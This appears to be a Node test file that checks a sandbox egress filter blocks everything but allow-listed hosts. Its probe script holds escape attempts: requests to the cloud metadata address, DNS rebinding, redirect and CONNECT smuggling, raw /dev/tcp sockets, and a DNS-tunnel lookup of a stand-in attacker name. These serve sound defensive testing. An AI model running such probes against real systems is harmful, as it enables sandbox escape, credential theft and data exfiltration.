import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { newId } from '../../src/domain/ids.ts';
import { collect, fixture, MIB } from '../sandbox/fixture.ts';
import { preparedHarness } from '../support/local-harness.ts';
import { egressWorld, type World } from './fixture.ts';

/** What a program inside gets, by client and target: a line `<name> <exit code> <what it wrote>` each. */
const probes = String.raw`
t() { n=$1; shift; out=$(timeout 25 "$@" 2>&1); c=$?; echo "$n $c $(printf %s "$out" | tr '\r\n' '  ' | cut -c1-600)"; }
say() { t "$1" bash -c "exec 3<>/dev/tcp/127.0.0.1/3128 && printf '$2' >&3 && head -c 600 <&3"; }
fetch='const url = process.argv[1]; try { console.log(await (await fetch(url)).text()) } catch (e) { console.log("failed", e.cause?.code ?? e.message); process.exit(1) }'
urllib='import sys, urllib.request
try: print(urllib.request.urlopen(sys.argv[1], timeout=20).read().decode())
except Exception as e: print("failed", e); sys.exit(1)'
for host in good other; do
  t curl-$host curl -sS https://$host.test/
  t http-$host curl -sS -i http://$host.test/
  t git-$host git ls-remote https://$host.test/repo.git
  t node-$host /opt/berth/node/bin/node --input-type=module -e "$fetch" https://$host.test/
  t python-$host python3 -c "$urllib" https://$host.test/
  t npm-$host npm view thing version --registry https://$host.test/npm/ --fetch-retries 0
done
t metadata curl -sS -m 10 http://169.254.169.254/latest/meta-data
t metadata6 curl -sS -m 10 -g 'http://[fd00:ec2::254]/'
t mapped curl -sS -m 10 -g 'http://[::ffff:169.254.169.254]/'
t private curl -sS -m 10 https://private.test/
t rebinding curl -sS -m 10 http://rebinding.test/
t redirect-denied curl -sSL -m 10 https://good.test/to/https%3A%2F%2Fother.test%2F
t redirect-metadata curl -sSL -m 10 http://good.test/to/http%3A%2F%2F169.254.169.254%2F
t literal curl -sSk -m 10 https://93.184.216.2/
t tunnel-name getent hosts secret-data.attacker.test
t udp python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"x", ("93.184.216.1", 53)); print(s.recv(9))'
t raw bash -c 'exec 3<>/dev/tcp/93.184.216.1/7'
t host-loopback curl -sS -m 5 --noproxy '*' http://127.0.0.1:$HOST_PORT/
t host-loopback-proxied curl -sS -m 5 -x http://127.0.0.1:3128 --noproxy '' http://127.0.0.1:$HOST_PORT/
say connect-ssh 'CONNECT good.test:22 HTTP/1.1\r\n\r\n'
say connect-metadata 'CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n'
say connect-mapped 'CONNECT [::ffff:7f00:1]:80 HTTP/1.1\r\n\r\n'
say connect-decimal 'CONNECT 2130706433:80 HTTP/1.1\r\n\r\n'
`;

interface Seen {
  code: number;
  text: string;
}

async function inside(t: TestContext, mode: 'proxy' | 'transparent', more: string[] = []) {
  const sandboxes = fixture();
  t.after(() => sandboxes.close());
  const { usable, problems, transparentEgress } = await sandboxes.driver.capabilities();
  if (!usable) return void t.skip(`no sandbox here: ${problems.join(' ')}`);
  if (mode === 'transparent' && !transparentEgress) {
    return void t.skip('transparent egress is not possible here');
  }
  const { hostPath, nodeDir } = await preparedHarness();
  const id = newId();
  const spec = sandboxes.spec([], { id, transparentEgress: mode === 'transparent' });
  const world = await egressWorld(t, {
    runDir: spec.runDir,
    policy: {
      allow: ['good.test', 'private.test', 'rebinding.test', 'redirect.test', ...more],
      transparent: mode === 'transparent',
    },
  });
  world.names.set('private.test', ['10.0.0.7']);
  world.names.set('rebinding.test', ['93.184.216.1', '169.254.169.254']);
  makeRepository(world);
  const certificate = join(spec.runDir, 'test.crt');
  copyFileSync(world.certificate, certificate);
  chmodSync(certificate, 0o644);
  // As the launcher does it: the way out is opened, and programs get its variables.
  const launcher = `
    import { spawn } from 'node:child_process';
    import { openEgress } from '/opt/berth/harness/egress.mjs';
    const way = await openEgress('/run/berth/egress.sock', process.env);
    const env = { ...process.env, ...(process.env.NO_VARIABLES ? {} : way) };
    const child = spawn('/bin/bash', ['-c', process.env.PROBES], { env, stdio: 'inherit' });
    child.on('exit', (code) => process.exit(code ?? 1));`;
  const ca = '/run/berth/test.crt';
  const run = async (script: string, env: Record<string, string> = {}): Promise<Map<string, Seen>> => {
    const sandbox = await sandboxes.driver.start({
      ...spec,
      command: ['/opt/berth/node/bin/node', '--input-type=module', '-e', launcher],
      binds: [
        { hostPath: nodeDir, path: '/opt/berth/node' },
        { hostPath, path: '/opt/berth/harness' },
      ],
      env: {
        ...{
          PATH: '/usr/bin:/bin',
          HOME: '/home/agent',
          LANG: 'C.UTF-8',
          PROBES: script,
          ...world.env,
        },
        ...{ CURL_CA_BUNDLE: ca, SSL_CERT_FILE: ca, NODE_EXTRA_CA_CERTS: ca, GIT_SSL_CAINFO: ca },
        ...{ npm_config_cafile: ca, GIT_TERMINAL_PROMPT: '0', npm_config_update_notifier: 'false' },
        // In transparent mode the programs know of no proxy.
        ...(mode === 'transparent' ? { NO_VARIABLES: '1' } : {}),
        ...env,
      },
      limits: { ...spec.limits, memoryBytes: 1024 * MIB, pids: 256, openFiles: 1024, cpus: 2 },
    });
    const { stdout, stderr } = await collect(sandbox, 120_000);
    const seen = new Map<string, Seen>();
    for (const line of stdout.split('\n')) {
      const [, name, code, text] = /^(\S+) (\d+) ?(.*)$/.exec(line) ?? [];
      if (name) seen.set(name, { code: Number(code), text: text! });
    }
    assert.ok(seen.size > 0, `nothing was probed: ${stderr}`);
    return seen;
  };
  return { world, run };
}

function makeRepository(world: World): void {
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b.invalid', ...args], {
      cwd: world.folder,
    });
  git('init', '-q', 'work');
  git('-C', 'work', 'commit', '-q', '--allow-empty', '-m', 'x');
  git('clone', '-q', '--bare', 'work', 'repo.git');
  git('-C', 'repo.git', 'update-server-info');
}

/** Programs of the host's /usr; where one is missing its rows are not looked at, and the table is not compared. */
const missing = ['curl', 'git', 'python3', 'npm', 'openssl'].filter(
  (name) => !existsSync(`/usr/bin/${name}`),
);
const clients = Object.entries({
  curl: 'curl',
  http: 'curl',
  git: 'git',
  node: '',
  python: 'python3',
  npm: 'npm',
})
  .filter(([, program]) => !missing.includes(program))
  .map(([client]) => client);
const arrivedElsewhere = (world: World) => world.arrived.filter((line) => !/^\S+ good\.test /.test(line));

/** Rows of the table in docs/egress.md: the probe, and what it tries. */
const rows: [name: string, what: string][] = [
  ...['good', 'other'].flatMap((host) =>
    Object.entries({
      curl: 'curl, https',
      http: 'curl, http',
      git: 'git over https',
      node: "Node's fetch",
      python: "Python's urllib",
      npm: 'npm',
    }).map(([client, label]): [string, string] => [
      `${client}-${host}`,
      `${host === 'good' ? 'a listed host' : 'another host'}: ${label}`,
    ]),
  ),
  ['metadata', '`169.254.169.254`'],
  ['metadata6', '`fd00:ec2::254`'],
  ['mapped', '`::ffff:169.254.169.254`'],
  ['private', 'a listed name with a private address'],
  ['rebinding', 'a listed name with a public address and that of the metadata'],
  ['redirect-denied', 'a redirect of a listed host to another host'],
  ['redirect-metadata', 'a redirect of a listed host to the metadata'],
  ['literal', 'a public address that is not listed'],
  ['other', 'TLS to a listed host that names another (SNI)'],
  ['none', 'TLS to a listed host that names none'],
  ['connect-ssh', 'CONNECT to port 22 of a listed host'],
  ['connect-metadata', 'CONNECT to `169.254.169.254:80`'],
  ['connect-mapped', 'CONNECT to `[::ffff:7f00:1]:80`'],
  ['connect-decimal', 'CONNECT to `2130706433:80`'],
  ['tunnel-name', 'data in a name that is looked up'],
  ['udp', 'UDP to port 53 of a public address'],
  ['raw', 'TCP to another port of a public address'],
  ['host-loopback', "the host's loopback"],
  ['host-loopback-proxied', "the host's loopback through the proxy"],
];

const outcomes = { proxy: new Map<string, string>(), transparent: new Map<string, string>() };

function outcomeOf({ text }: Seen): string {
  if (/hello from|\tHEAD|1\.2\.3|secret of the host/.test(text)) return 'reached';
  if (/^198\.1[89]\./.test(text)) return 'answered inside';
  if (/X-Berth-Egress-Error|\([a-z_]+\)|\b403\b/.test(text)) return 'not reached, told so';
  return 'not reached';
}

function note(mode: 'proxy' | 'transparent', seen: Map<string, Seen>): void {
  for (const [name, probe] of seen) outcomes[mode].set(name, outcomeOf(probe));
}

for (const mode of ['proxy', 'transparent'] as const) {
  test(`From inside, ${mode} mode: every client reaches what is listed, and none anything else`, async (t) => {
    const made = await inside(t, mode);
    if (!made) return;
    const { world, run } = made;
    if (missing.includes('curl')) return void t.skip('no curl in /usr/bin here');
    const hostPort = String(Number(new URL(await hostServer(t)).port));
    const seen = await run(probes, { HOST_PORT: hostPort });
    note(mode, seen);
    const table = [...seen].map(([name, { code, text }]) => `${name} ${code} ${text}`).join('\n');
    for (const client of clients) {
      const good = seen.get(`${client}-good`);
      assert.equal(good?.code, 0, `${client}\n${table}`);
      assert.match(good!.text, { git: /HEAD/, npm: /1\.2\.3/ }[client] ?? /hello from good\.test/, table);
      const other = seen.get(`${client}-other`)!;
      if (client !== 'http') assert.notEqual(other.code, 0, table);
      assert.doesNotMatch(other.text, /hello|HEAD|1\.2\.3/, table);
    }
    // Plain HTTP is told why, in both modes.
    assert.match(seen.get('http-other')!.text, /403 Forbidden .*not_listed.*berth egress allow/i, table);
    const closed = [...seen.keys()].filter((name) => !/-good$|^http-|^tunnel-name$/.test(name));
    for (const name of closed)
      assert.doesNotMatch(seen.get(name)!.text, /hello|secret of the host/, `${name}\n${table}`);
    assert.deepEqual(
      [arrivedElsewhere(world), world.dialled.filter((to) => !to.startsWith('93.184.216.1:'))],
      [[], []],
    );
    assert.ok(
      !world.asked.some((name) => name.includes('attacker')),
      'a name that is not listed was looked up',
    );
    const reasons = new Set(world.refusals.map(({ host, reason }) => `${host} ${reason}`));
    for (const wanted of [
      'other.test not_listed',
      '169.254.169.254 private_address',
      'private.test private_address',
      'rebinding.test private_address',
      '93.184.216.2 address_literal',
      '127.0.0.1 private_address',
      'good.test not_listed',
    ]) {
      assert.ok(reasons.has(wanted), `${wanted}: ${[...reasons].join(', ')}\n${table}`);
    }
  });

  test(`From inside, ${mode} mode: TLS that names another host does not go out`, async (t) => {
    if (missing.includes('openssl')) return void t.skip('no openssl in /usr/bin here');
    const made = await inside(t, mode);
    if (!made) return;
    const way = mode === 'proxy' ? '-proxy 127.0.0.1:3128' : '';
    const { world, run } = made;
    const seen = await run(
      `t() { n=$1; shift; out=$(timeout 25 "$@" 2>&1 </dev/null); echo "$n $? $(printf %s "$out" | tr '\\r\\n' '  ' | cut -c1-200)"; }
      t same openssl s_client ${way} -connect good.test:443 -servername good.test
      t other openssl s_client ${way} -connect good.test:443 -servername other.test
      t none openssl s_client ${way} -connect good.test:443 -noservername`,
    );
    note(mode, seen);
    assert.equal(seen.get('same')!.code, 0, seen.get('same')!.text);
    assert.notEqual(seen.get('other')!.code, 0, seen.get('other')!.text);
    assert.notEqual(seen.get('none')!.code, 0, seen.get('none')!.text);
    assert.deepEqual(
      world.refusals.map(({ reason }) => reason),
      ['name_mismatch', 'name_missing'],
    );
  });
}

test('From inside, transparent mode leads ports on that a rule names, for hosts that speak first too', async (t) => {
  const made = await inside(t, 'transparent', ['good.test:22/tcp', 'good.test:7/tcp']);
  if (!made) return;
  const seen = await made.run(
    `t() { n=$1; shift; out=$(timeout 25 bash -c "$@" 2>&1 </dev/null | tr -d '\\r'); echo "$n 0 $out"; }
    t ssh 'exec 3<>/dev/tcp/good.test/22 && head -1 <&3'
    t echo 'exec 3<>/dev/tcp/good.test/7 && echo over and back >&3 && head -1 <&3'
    t other 'exec 3<>/dev/tcp/other.test/22 && head -1 <&3'
    t unnamed 'exec 3<>/dev/tcp/good.test/21 && head -1 <&3'`,
  );
  assert.match(seen.get('ssh')!.text, /^SSH-2\.0-test/);
  assert.equal(seen.get('echo')!.text, 'over and back');
  assert.doesNotMatch(seen.get('other')!.text, /SSH/);
  assert.match(seen.get('unnamed')!.text, /refused/);
  assert.deepEqual(
    made.world.refusals.map(({ host, port, reason }) => [host, port, reason]),
    [['other.test', 22, 'not_listed']],
  );
});

test('The table in docs/egress.md is what was seen from inside', (t) => {
  if (missing.length > 0) return void t.skip(`not in /usr/bin here: ${missing.join(', ')}`);
  if (outcomes.proxy.size === 0 || outcomes.transparent.size === 0) {
    return void t.skip('one of the modes was not tried here');
  }
  const lines = rows.map(([name, what]) => {
    const { proxy, transparent } = outcomes;
    return `| ${what} | ${proxy.get(name)} | ${transparent.get(name)} |`;
  });
  const wanted = ['| tried from inside | proxy mode | transparent mode |', '|---|---|---|', ...lines].join(
    '\n',
  );
  const page = readFileSync(new URL('../../../../docs/egress.md', import.meta.url), 'utf8');
  assert.ok(page.includes(wanted), `docs/egress.md must have this table:\n${wanted}`);
});

/** A service on the host's own loopback that no sandbox may see. */
async function hostServer(t: TestContext): Promise<string> {
  const { createServer } = await import('node:http');
  const server = createServer((_request, response) => response.end('secret of the host'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => {
    server.close();
    server.closeAllConnections();
  });
  return `http://127.0.0.1:${(server.address() as { port: number }).port}`;
}
